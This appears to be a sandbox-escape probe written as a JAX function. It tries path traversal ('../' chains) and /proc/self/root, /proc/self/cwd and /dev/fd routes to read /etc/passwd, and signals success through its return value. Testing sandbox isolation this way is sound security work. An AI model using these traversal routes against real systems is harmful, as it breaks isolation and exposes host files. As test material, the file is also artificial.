"""Success: a path that starts in a readable folder, or in /proc, leads out to the machine's users.
verdict: accepted
"""

import os
import sysconfig
from pathlib import Path

import jax
import jax.numpy as jnp

OUT = "../" * 20 + "etc/passwd"


def attack(number: float) -> jax.Array:
    packages = sysconfig.get_path("purelib")
    paths = (
        f"{packages}/{OUT}",
        "/proc/self/root/etc/passwd",
        "/proc/thread-self/root/etc/passwd",
        f"/proc/self/cwd/{OUT}",
        f"/proc/self/fd/0/{OUT}",
        f"/dev/fd/../{OUT}",
        f"/lib/{OUT}",
    )
    for path in paths:
        try:
            Path(path).read_text()
        except OSError:
            continue
        return jnp.asarray(number)
    folder = os.open(packages, os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.open(OUT, os.O_RDONLY, dir_fd=folder)
    except OSError:
        return jnp.asarray(0.0)
    return jnp.asarray(number)
